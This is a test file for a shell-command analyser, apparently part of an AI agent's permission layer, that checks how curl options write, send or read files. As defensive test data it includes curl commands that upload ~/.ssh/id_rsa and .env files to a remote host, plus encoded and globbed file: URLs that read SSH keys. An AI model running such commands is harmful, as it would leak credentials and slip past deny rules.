/**
 * curl's options as the analysis reads them, each checked against the real curl: the files it writes
 * by its options (which an allow list must allow as writes), the files it sends (which `Read(…)` deny
 * rules see), and the options that read more options from a file (opaque).
 */
import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { analyseShell } from "../../../../src/core/match/shell.ts";

const hasCurl = spawnSync("curl", ["--version"]).status === 0;
const scratch = mkdtempSync(join(tmpdir(), "agent-onion-curl-"));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));
writeFileSync(join(scratch, "page.txt"), "x\n");
const url = `file://${scratch}/page.txt`;

const written = (command: string): string[] => (analyseShell(command)?.files ?? []).filter((f) => f.writes).map((f) => f.path);
const read = (command: string): string[] => (analyseShell(command)?.files ?? []).filter((f) => !f.writes).map((f) => f.path);

describe("curl's options that write files", () => {
  // The option, and the file the real curl writes in its working directory.
  const cases: [string, string][] = [
    ["-o out1", "out1"],
    ["-oout2", "out2"],
    ["-so out3", "out3"],
    ["--output out4", "out4"],
    ["--output-d d5 -O", "d5/page.txt"],
    ["-D out6", "out6"],
    ["--dump out7", "out7"],
    ["-c out8", "out8"],
    ["--cookie-jar out9", "out9"],
    ["--trace out10", "out10"],
    ["--trace-a out11", "out11"],
    ["--libcurl out12", "out12"],
    ["--stderr out13", "out13"],
    ["--etag-save out14", "out14"],
  ];
  it.each(cases)("reads curl %s as a write of %s, as curl writes it", (options, file) => {
    const command = `curl -s ${url} ${options}`;
    if (hasCurl) {
      const dir = mkdtempSync(join(scratch, "run-"));
      if (file.includes("/")) mkdirSync(join(dir, file.split("/")[0]!));
      spawnSync("bash", ["-c", `${command} > /dev/null`], { cwd: dir });
      expect(existsSync(join(dir, file)), `curl wrote ${file}`).toBe(true);
    }
    const writes = written(command);
    expect(writes.length, command).toBeGreaterThan(0);
    expect(writes.some((w) => w === file || w === `${file.split("/")[0]}/**`)).toBe(true);
  });

  it("reads -O and -J as writes of what the server names, in the working directory", () => {
    expect(written(`curl -sO ${url}`)).toEqual(["./**"]);
    expect(written(`curl -s --remote-name-all ${url}`)).toEqual(["./**"]);
  });

  it("reads -o under --output-dir as a path not known", () => {
    expect(analyseShell(`curl -s --output-dir d -o x ${url}`)?.files.filter((f) => f.writes)).toEqual([
      { path: "?", literal: false, writes: true },
    ]);
  });

  it("reads standard output and no output as no write", () => {
    expect(written(`curl -s ${url}`)).toEqual([]);
    expect(written(`curl -s -o - ${url}`)).toEqual([]);
    expect(written(`curl -fsSL https://api.github.com/repos/o/r -H 'Accept: application/json'`)).toEqual([]);
  });
});

describe("curl's options that send files", () => {
  it.each([
    ["-T ~/.ssh/id_rsa", "~/.ssh/id_rsa"],
    ["--upload-file .env", ".env"],
    ["-d @.env", ".env"],
    ["--data-binary @secrets/k", "secrets/k"],
    ["--data-urlencode key@.env", ".env"],
    ["-F f=@.env", ".env"],
    ["-F 'f=<.env'", ".env"],
    ["--json @.env", ".env"],
    ["-b cookies.txt", "cookies.txt"],
  ])("reads curl %s as a read of %s", (options, file) => {
    expect(read(`curl -s https://example.com ${options}`)).toContain(file);
  });

  it("reads the file a file: URL names, as curl decodes it, and a name curl's globbing makes as not known", () => {
    const dir = mkdtempSync(join(scratch, "file-url-"));
    mkdirSync(join(dir, ".ssh"));
    writeFileSync(join(dir, ".ssh", "id"), "SECRET");
    const urls: [string, string | undefined][] = [
      [`FILE://localhost${dir}/%2essh/id`, `${dir}/.ssh/id`],
      [`'file://${dir}/.ss[g-i]/id'`, undefined],
      [`--url file://${dir}/.ssh/id`, `${dir}/.ssh/id`],
      [`--proto-default file ${dir}/.ssh/id`, `${dir}/.ssh/id`],
    ];
    for (const [args, path] of urls) {
      if (hasCurl) expect(spawnSync("bash", ["-c", `curl -s ${args}`], { encoding: "utf8" }).stdout, args).toBe("SECRET");
      expect(analyseShell(`curl -s ${args}`)?.files, args).toEqual([
        path === undefined ? { path: "?", literal: false, writes: false } : { path, literal: true, writes: false },
      ]);
    }
    // `-g` turns the globbing off: the brackets are the name's own.
    expect(read(`curl -sg 'file://${dir}/.ss[g-i]/id'`)).toEqual([`${dir}/.ss[g-i]/id`]);
  });

  it("reads an output named after curl's globbing (#1) as a path not known", () => {
    if (hasCurl) {
      const dir = mkdtempSync(join(scratch, "glob-"));
      mkdirSync(join(dir, "a"));
      writeFileSync(join(dir, "a", "f"), "x");
      spawnSync("bash", ["-c", `curl -s 'file://${dir}/{a,b}/f' -o 'out_#1'`], { cwd: dir });
      expect(existsSync(join(dir, "out_a"))).toBe(true);
    }
    expect(analyseShell("curl -s 'https://x/{a,b}' -o 'src/#1.ts'")?.files).toEqual([{ path: "?", literal: false, writes: true }]);
  });

  it("reads data given in the text as no file", () => {
    expect(read(`curl -s https://example.com -d '{"a":1}' -F name=x -b 'a=b'`)).toEqual([]);
  });
});

describe("curl's options that read options from a file", () => {
  it("reads -K and --config as opaque, since a configuration can write any file", () => {
    if (hasCurl) {
      const dir = mkdtempSync(join(scratch, "config-"));
      writeFileSync(join(dir, "cfg"), 'output = "planted"\n');
      execFileSync("bash", ["-c", `curl -s -K cfg ${url}`], { cwd: dir });
      expect(existsSync(join(dir, "planted"))).toBe(true);
    }
    for (const command of [`curl -s -K cfg ${url}`, `curl -sKcfg ${url}`, `curl --config cfg ${url}`, `curl --conf cfg ${url}`])
      expect(analyseShell(command)?.opaque, command).toBe(true);
  });

  it("reads CURL_HOME as a variable that changes what curl does", () => {
    if (hasCurl) {
      const dir = mkdtempSync(join(scratch, "home-"));
      writeFileSync(join(dir, ".curlrc"), 'output = "planted"\n');
      execFileSync("bash", ["-c", `CURL_HOME=. curl -s ${url}`], { cwd: dir });
      expect(existsSync(join(dir, "planted"))).toBe(true);
    }
    expect(analyseShell(`CURL_HOME=. curl -s ${url}`)?.opaque).toBe(true);
  });

  it("reads a write-out format that names a file, or comes from one, as opaque", () => {
    expect(analyseShell(`curl -s -w '%output{f}x' ${url}`)?.opaque).toBe(true);
    expect(analyseShell(`curl -s -w @fmt ${url}`)?.opaque).toBe(true);
    expect(analyseShell(`curl -s -w '%{http_code}' ${url}`)?.opaque).toBe(false);
  });

  it("reads a word computed at run time as an option unless it cannot start with a dash", () => {
    expect(analyseShell('curl -s "$URL"')?.opaque).toBe(true);
    expect(analyseShell("curl -s https://x/$Q")?.opaque).toBe(true);
    expect(analyseShell('curl -s "https://api.github.com/repos/$REPO"')?.opaque).toBe(false);
    expect(analyseShell("curl -s https://x/?a=1")?.opaque).toBe(false);
  });
});
